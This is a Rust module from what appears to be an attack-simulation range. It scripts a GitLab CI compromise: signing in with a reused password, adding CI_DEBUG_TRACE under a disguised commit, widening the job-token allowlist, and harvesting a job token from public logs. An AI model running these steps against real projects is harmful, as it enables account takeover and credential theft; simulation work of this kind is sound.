//! `exposed-job-token`: a running job's token in a public log.
//!
//! A maintainer's reused password opens her account. The attacker changes
//! `.gitlab-ci.yml` of a public project so that jobs tell every variable,
//! starts a pipeline, and reads the job's token from the public log as anybody
//! could. It works while the job runs, also in a project whose allowlist he
//! opened. The change of the file points at the account: the linked case (S2).

use reqwest::Method;
use serde_json::json;

use super::AttackError;
use super::attacker::Attacker;
use super::hands::{project_id, search_public_logs, sign_in, word_with};
use super::loot::{CredentialKind, Foothold, Loot, Sign};
use crate::secret;
use crate::world::MAINTAINER_PASSWORD;

/// Who changed the configuration.
pub const USERNAME: &str = "priya.nair";
/// The public project.
pub const PROJECT: &str = "commons/tide-widgets";
/// The file whose change shows the token.
const FILE: &str = ".gitlab-ci.yml";
/// What is added on top of it.
const DEBUG: &str = "variables:\n  CI_DEBUG_TRACE: \"true\"\n\n";
/// The project that is let in by the allowlist.
const LET_IN: &str = "commons/style-guide";

/// Runs the attack.
pub(crate) async fn run(attacker: Attacker) -> Result<Loot, AttackError> {
    let session = sign_in(&attacker, USERNAME, MAINTAINER_PASSWORD).await?;
    let mut loot = Loot::new(attacker);
    loot.hold("the browser session", session.clone());
    let project = project_id(&loot.attacker, Some(&session), PROJECT).await?;
    open_scope(&mut loot, &session, &project).await?;
    turn_on_debugging(&mut loot, &session, &project).await?;
    let body = json!({ "ref": "main" });
    let path = format!("/projects/{project}/pipeline");
    let attacker = loot.attacker.clone();
    let title = "start a pipeline";
    attacker.write(title, (Method::POST, &path), Some(&session), body).await?.accepted()?;

    let wanted = |log: &str| word_with(secret::JOB_TOKEN, log);
    let (token, project, job) = search_public_logs(&attacker, "&scope=running", wanted).await?;
    loot.footholds.push(Foothold {
        name: format!("the log of job {job} shows a token"),
        path: format!("/projects/{project}/jobs/{job}/trace"),
        sign: Sign::Shows { secret: token.clone() },
    });
    let token = CredentialKind::JobToken(token);
    use_token(&loot.attacker, &token, &project).await?;
    loot.hold("the job's token", token);
    Ok(loot)
}

/// Lets another project's jobs use this project.
async fn open_scope(
    loot: &mut Loot,
    session: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let other = project_id(&attacker, Some(session), LET_IN).await?;
    let path = format!("/projects/{project}/job_token_scope/allowlist");
    let body = json!({ "target_project_id": other.parse::<u64>().unwrap_or_default() });
    let title = "let another project's job tokens in";
    attacker.write(title, (Method::POST, &path), Some(session), body).await?.accepted()?;
    loot.footholds.push(Foothold {
        name: format!("{LET_IN} is on the job token allowlist of project {project}"),
        path: format!("{path}?per_page=100"),
        sign: Sign::Listed { field: "path_with_namespace", value: LET_IN.to_owned() },
    });
    Ok(())
}

async fn turn_on_debugging(
    loot: &mut Loot,
    session: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let attacker = loot.attacker.clone();
    let path = format!("/projects/{project}/repository/files/{FILE}");
    let read = format!("{path}/raw?ref=main");
    let before = attacker.get("read the CI/CD configuration", &read, Some(session)).await?;
    let body = json!({
        "branch": "main",
        "content": format!("{DEBUG}{}", before.accepted()?.text),
        "commit_message": "ci: find out why the unit job is slow",
    });
    let title = "commit debug logging";
    attacker.write(title, (Method::PUT, &path), Some(session), body).await?.accepted()?;
    Ok(())
}

/// Asks what the job is, then tries what a job may.
async fn use_token(
    attacker: &Attacker,
    token: &CredentialKind,
    project: &str,
) -> Result<(), AttackError> {
    let with = Some(token);
    attacker.get("ask which job it is", "/job", with).await?.accepted()?;
    for (title, path) in [
        ("read releases with the job's token", "releases"),
        ("read packages with the job's token", "packages"),
        ("try to read variables with it", "variables"),
    ] {
        attacker.get(title, &format!("/projects/{project}/{path}"), with).await?;
    }
    Ok(())
}
